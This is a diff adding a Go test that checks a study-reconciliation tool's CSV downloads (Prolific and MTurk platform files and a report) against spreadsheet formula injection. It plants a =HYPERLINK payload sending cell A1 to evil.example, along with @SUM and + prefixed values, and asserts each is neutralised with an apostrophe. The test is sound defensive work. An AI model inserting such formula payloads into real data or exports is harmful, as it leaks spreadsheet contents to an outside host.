@@ -1,6 +1,7 @@
 package reconcile
 
 import (
+	"encoding/csv"
 	"strings"
 	"testing"
 )
@@ -79,4 +80,59 @@ func FuzzParse(f *testing.F) {
 		Report(res)
 		PlatformFile(tb, res)
 	})
+}
+
+// TestDownloadsAreSpreadsheetSafe: a formula in a participant id, a submission id, a status,
+// a submitted code or a worker's answer reaches none of the three files as a formula (each
+// gets the exports' leading apostrophe), and ordinary values are unchanged.
+func TestDownloadsAreSpreadsheetSafe(t *testing.T) {
+	const evil = `=HYPERLINK("https://evil.example/?"&A1,"click")`
+	csvEvil := `"` + strings.ReplaceAll(evil, `"`, `""`) + `"`
+	tb, err := Parse("Submission id,Participant id,Status,Completion code\n"+
+		csvEvil+",P1,"+csvEvil+",C0DE\n"+
+		"s2,"+csvEvil+",AWAITING REVIEW,"+csvEvil+"\n", "")
+	if err != nil {
+		t.Fatal(err)
+	}
+	people := []Participant{
+		{UserID: "u1", PlatformIDs: map[string]string{"PROLIFIC_PID": "P1"}, Stage: "completed", CompletedAt: 5, CompletionCode: "C0DE"},
+		{UserID: "+u2", PlatformIDs: map[string]string{"PROLIFIC_PID": evil}, Stage: "completed", CompletedAt: 5, CompletionCode: "@SUM(A1)"},
+	}
+	res := Classify(tb, people)
+	files := []Download{Report(res)}
+	f, _ := PlatformFile(tb, res)
+	files = append(files, f)
+	mt, err := Parse("HITId,AssignmentId,WorkerId,Answer.code,Approve,Reject\nH,A1,"+csvEvil+","+csvEvil+",,\nH,A2,W2,-2,,\n", "")
+	if err != nil {
+		t.Fatal(err)
+	}
+	res = Classify(mt, []Participant{{UserID: "w", PlatformIDs: map[string]string{"workerId": evil}, Stage: "completed", CompletedAt: 5}})
+	f, _ = PlatformFile(mt, res)
+	files = append(files, f)
+	for _, f := range files {
+		recs, err := csv.NewReader(strings.NewReader(f.CSV)).ReadAll()
+		if err != nil {
+			t.Fatalf("%s: %v", f.Filename, err)
+		}
+		found := false
+		for _, rec := range recs {
+			for _, v := range rec {
+				if v != "" && strings.ContainsRune("=+@\t\r", rune(v[0])) || (strings.HasPrefix(v, "-") && v != "-2") {
+					t.Errorf("%s: cell %q would run as a formula", f.Filename, v)
+				}
+				if v == "'"+evil {
+					found = true
+				}
+			}
+		}
+		if !found {
+			t.Errorf("%s: the hostile value is not there, neutralised:\n%s", f.Filename, f.CSV)
+		}
+	}
+	if !strings.Contains(files[0].CSV, ",u1,") || !strings.Contains(files[0].CSV, ",'+u2,") || !strings.Contains(files[0].CSV, "'@SUM(A1)") {
+		t.Errorf("report:\n%s", files[0].CSV)
+	}
+	if !strings.Contains(files[2].CSV, "\nH,A2,W2,-2,,") {
+		t.Errorf("a plain number changed in the MTurk file:\n%s", files[2].CSV)
+	}
 }
